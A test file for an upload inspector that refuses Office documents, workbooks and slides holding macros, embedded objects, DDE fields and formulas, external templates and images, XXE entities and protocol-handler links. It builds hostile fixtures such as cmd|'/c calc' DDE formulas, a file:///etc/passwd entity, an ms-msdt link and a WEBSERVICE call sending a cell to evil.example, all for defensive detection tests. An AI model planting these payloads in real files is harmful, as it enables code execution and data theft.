import { constants, crc32, deflateRawSync } from "node:zlib";
import { expect, test } from "vitest";
import { sentences } from "#app/files/inspecting/refusal.ts";
import { archive, type Entry } from "./archives.ts";
import { inspected } from "./files.ts";
import {
  entriesOf,
  field,
  formula,
  letter,
  letterBody,
  letterParts,
  letterTo,
  letterWith,
  paragraph,
  relation,
  relations,
  sheetOf,
  slides,
  workbook,
} from "./office-files.ts";

const typed = (override: string) =>
  String(letterParts()["[Content_Types].xml"]).replace("</Types>", `${override}</Types>`);
const macroType = "application/vnd.ms-word.document.macroEnabled.main+xml";
const microsoft = "http://schemas.microsoft.com/office/2006/relationships";
const code = (type: string, inner = "") => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>${inner}`;
const instruction = (text: string) => `<w:r><w:instrText>${text}</w:instrText></w:r>`;

/** A part of which the first letter is unpacked long before the others. */
function slowly(text: string): Entry {
  const piece = (some: string, finishFlush: number) =>
    deflateRawSync(Buffer.from(some, "latin1"), { finishFlush });
  const nothing = Buffer.alloc(5 * 40_000, "\0\0\0\xff\xff", "latin1");
  const [first, others] = [piece(text[0]!, constants.Z_FULL_FLUSH), piece(text.slice(1), constants.Z_FINISH)];
  const body = Buffer.concat([first, nothing, others]);
  return {
    name: "word/media/image1.png",
    body,
    stored: true,
    claims: { method: 8, unpacked: text.length, crc: crc32(Buffer.from(text, "latin1")) },
  };
}

const letters: [string, Buffer, keyof typeof sentences][] = [
  ["macros", letter({ "word/vbaProject.bin": "x" }), "macros"],
  ["macros in other letters", letter({ "WORD/VBAPROJECT.BIN": "x" }), "macros"],
  [
    "macros by another name",
    letterTo(relation("r1", `${microsoft}/vbaProject`, "media/image1.png")),
    "macros",
  ],
  [
    "the type of a letter with macros",
    letter({ "[Content_Types].xml": typed("").replace(/application\/vnd[^"]*main\+xml/, macroType) }),
    "macros",
  ],
  [
    "macros as a type of its parts",
    letter({
      "[Content_Types].xml": typed(
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
      ),
    }),
    "macros",
  ],
  ["an OLE object by its name", letter({ "word/embeddings/oleObject1.bin": "x" }), "embedded"],
  [
    "an OLE object called a picture",
    letter({ "word/media/image1.png": Buffer.from("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "latin1") }),
    "embedded",
  ],
  [
    "an OLE object in its text",
    letterWith('<w:p><w:object><o:OLEObject xmlns:o="urn:o" Type="Link"/></w:object></w:p>'),
    "embedded",
  ],
  ["an OLE object as a relationship", letterTo(relation("r1", "oleObject", "media/a.png")), "embedded"],
  ["a workbook inside", letter({ "word/embeddings/Microsoft_Excel_Sheet.xlsx": workbook() }), "embedded"],
  ["a package as a relationship", letterTo(relation("r1", "package", "media/a.png")), "embedded"],
  ["a program by its name", letter({ "word/media/setup.exe": "x" }), "embedded"],
  ["a program called a picture", letter({ "word/media/image1.jpeg": "MZ\x90\x00\x03" }), "embedded"],
  ["a PDF called a picture", letter({ "word/media/image1.jpeg": "%PDF-1.7" }), "embedded"],
  ["a page that is put into it", letterTo(relation("r1", "aFChunk", "page.xml")), "embedded"],
  ["a button of ActiveX", letter({ "word/activeX/activeX1.xml": "<a/>" }), "controls"],
  ["buttons in the ribbon", letter({ "customUI/customUI14.xml": "<a/>" }), "controls"],
  [
    "an add-in from the web",
    letter({
      "_rels/.rels": relations(
        relation("r1", "officeDocument", "word/document.xml"),
        relation(
          "r2",
          "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes",
          "x.xml",
        ),
      ),
    }),
    "controls",
  ],
  [
    "a template from elsewhere",
    letter({
      "word/_rels/settings.xml.rels": relations(
        relation("r1", "attachedTemplate", "https://evil.example/t.dotm", "External"),
      ),
    }),
    "outward",
  ],
  [
    "a template on a share",
    letter({
      "word/_rels/settings.xml.rels": relations(
        relation("r1", "attachedTemplate", "\\\\evil\\t", "EXTERNAL"),
      ),
    }),
    "outward",
  ],
  [
    "a picture from elsewhere",
    letterTo(relation("r1", "image", "https://evil.example/pixel.png", "External")),
    "outward",
  ],
  [
    "a picture from elsewhere that says it is here",
    letterTo(relation("r1", "image", "https://evil.example/pixel.png")),
    "outward",
  ],
  [
    "a picture from a share",
    letterTo(relation("r1", "image", "file://evil/pixel.png", " external ")),
    "outward",
  ],
  [
    "a picture of the old drawings from elsewhere",
    letterWith(
      '<w:p><w:pict><v:shape><v:imagedata src="https://evil.example/a.png"/></v:shape></w:pict></w:p>',
    ),
    "outward",
  ],
  ["frames", letterTo(relation("r1", "frame", "https://evil.example", "External")), "outward"],
  [
    "a list for letters from elsewhere",
    letterTo(relation("r1", "mailMergeSource", "file:///c:/list.csv", "External")),
    "outward",
  ],
  [
    "a link that runs a program",
    letterTo(relation("r1", "hyperlink", "ms-msdt:/id PCWDiagnostic", "External")),
    "starting",
  ],
  [
    "a link that is script",
    letterTo(relation("r1", "hyperlink", "javascript:alert(1)", "External")),
    "starting",
  ],
  ["a field of DDE", letterWith(field(" DDEAUTO c:\\\\windows\\\\cmd.exe ")), "starting"],
  ["a field of DDE behind many blanks", letterWith(field(" ".repeat(5_000), "DDE cmd")), "starting"],
  [
    "a field of DDE that never ends",
    letterWith(`<w:p>${code("begin", instruction("DDEAUTO cmd"))}</w:p>`),
    "starting",
  ],
  ["a field of DDE without a beginning", letterWith(`<w:p>${instruction("DDEAUTO cmd")}</w:p>`), "starting"],
  [
    "a field of DDE in a part that begins with blanks",
    letter({ "word/media/fields.bin": " ".repeat(90_000) + letterBody(field("DDEAUTO cmd")).slice(56) }),
    "starting",
  ],
  [
    "a program whose first letter comes alone",
    archive([...entriesOf(letterParts()), slowly("MZ\x90\x00 and so on, for long enough")]),
    "embedded",
  ],
  ["a field of DDE cut in pieces", letterWith(field("D", "DE", "AUTO cmd")), "starting"],
  ["a field of DDE in one element", letterWith('<w:fldSimple w:instr=" dde cmd /c "/>'), "starting"],
  [
    "a field of DDE under another prefix",
    letterWith(
      '<x:fldSimple xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main" x:instr="DDE cmd"/>',
    ),
    "starting",
  ],
  [
    "a field of DDE in a header",
    letter({ "word/header1.xml": letterBody(field("DDEAUTO cmd")) }),
    "starting",
  ],
  [
    "a field of DDE in a part of another name",
    letter({ "word/media/fields.bin": letterBody(field("DDEAUTO cmd")) }),
    "starting",
  ],
  [
    "a field of DDE in letters of two bytes",
    letter({
      "word/header1.xml": Buffer.from(
        `\ufeff${letterBody(field("DDEAUTO cmd")).replace("UTF-8", "UTF-16")}`,
        "utf16le",
      ),
    }),
    "starting",
  ],
  ["a field of DDE in escaped letters", letterWith(field("&#68;DE cmd")), "starting"],
  [
    "a field whose name is another field",
    letterWith(
      `<w:p>${code("begin", code("begin", instruction("QUOTE 68 68 69")) + code("end"))}${code("end")}</w:p>`,
    ),
    "unusual",
  ],
  [
    "a field that includes a picture",
    letterWith(field(' INCLUDEPICTURE "https://evil.example/p.png" \\d ')),
    "outward",
  ],
  ["a field that includes a text", letterWith(field('INCLUDETEXT "\\\\\\\\evil\\\\x"')), "outward"],
  [
    "entities of its own",
    letter({
      "word/document.xml": `<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;">]>${letterBody(paragraph("&c;")).slice(56)}`,
    }),
    "unusual",
  ],
  [
    "an entity of a file",
    letter({ "docProps/core.xml": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>' }),
    "unusual",
  ],
  ["an entity that nobody declares", letterWith(paragraph("&b;")), "damaged"],
  [
    "letters of an odd encoding",
    letter({ "word/document.xml": letterBody().replace("UTF-8", "UTF-7") }),
    "unusual",
  ],
  ["a text nested without end", letterWith("<w:p>".repeat(2_000) + "</w:p>".repeat(2_000)), "unusual"],
  ["a text that is no XML", letter({ "word/document.xml": "<w:document><w:p></w:document>" }), "damaged"],
  ["no list of its contents", letter({ "[Content_Types].xml": undefined }), "damaged"],
  ["no beginning", letter({ "_rels/.rels": undefined }), "damaged"],
];

test.each(letters)("a letter with %s is refused", async (_, bytes, why) => {
  expect(await inspected("policy.docx", bytes)).toEqual({ ok: false, sentence: sentences[why] });
});

const workbooks: [string, Buffer, keyof typeof sentences][] = [
  ["macros of 1992", workbook({ "xl/macrosheets/sheet1.xml": "<a/>" }), "macros"],
  ["links to other workbooks", workbook({ "xl/externalLinks/externalLink1.xml": "<a/>" }), "outward"],
  ["a connection to a database", workbook({ "xl/connections.xml": "<connections/>" }), "outward"],
  ["a table from the web", workbook({ "xl/queryTables/queryTable1.xml": "<a/>" }), "outward"],
  ["a formula of DDE", formula("cmd|'/c calc'!A0"), "starting"],
  ["a formula of DDE behind a plus", formula("+MSEXCEL|'..\\..\\cmd.exe /c calc'!''"), "starting"],
  ["a formula that asks a page", formula('WEBSERVICE("https://evil.example/?q="&amp;A1)'), "outward"],
  [
    "a formula that shows a picture from elsewhere",
    formula('_xlfn.IMAGE("https://evil.example/a.png")'),
    "outward",
  ],
  ["a formula that calls a library", formula('CALL("urlmon","URLDownloadToFileA","JJCCJJ")'), "starting"],
  [
    "a name that stands for DDE",
    workbook({
      "xl/workbook.xml":
        "<workbook><definedNames><definedName name=\"a\">cmd|'/c calc'!A0</definedName></definedNames></workbook>",
    }),
    "starting",
  ],
  ["a link of DDE", workbook({ "xl/worksheets/sheet2.xml": sheetOf("<ddeLink/>") }), "outward"],
];

test.each(workbooks)("a workbook with %s is refused", async (_, bytes, why) => {
  expect(await inspected("schedule.xlsx", bytes)).toEqual({ ok: false, sentence: sentences[why] });
});

test.each<[string, Buffer, keyof typeof sentences]>([
  [
    "film from elsewhere",
    slides({
      "ppt/slides/_rels/slide1.xml.rels": relations(
        relation("r1", "video", "https://evil.example/v.mp4", "External"),
      ),
    }),
    "outward",
  ],
  [
    "a press that runs a program",
    slides({ "ppt/slides/slide1.xml": '<a><hlinkClick action="ppaction://program?x=calc.exe"/></a>' }),
    "starting",
  ],
  [
    "a press that runs a macro",
    slides({ "ppt/slides/slide1.xml": '<a><hlinkClick action="ppaction://macro?name=x"/></a>' }),
    "starting",
  ],
  ["an object inside", slides({ "ppt/slides/slide1.xml": "<a><oleObj/></a>" }), "embedded"],
])("slides with %s are refused", async (_, bytes, why) => {
  expect(await inspected("talk.pptx", bytes)).toEqual({ ok: false, sentence: sentences[why] });
});

test.each(["docx", "xlsx", "pptx"])(
  "an old or locked file called .%s is refused with what to do",
  async (ending) => {
    const old = Buffer.concat([Buffer.from("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "latin1"), Buffer.alloc(600)]);
    expect(await inspected(`a.${ending}`, old)).toEqual({ ok: false, sentence: sentences.oldOffice });
  },
);

test.each([
  ["policy.docx", workbook()],
  ["schedule.xlsx", letter()],
  ["talk.pptx", letter()],
])("%s that is another kind of Office file is refused", async (name, bytes) => {
  expect(await inspected(name, bytes)).toEqual({ ok: false, sentence: sentences.damaged });
});
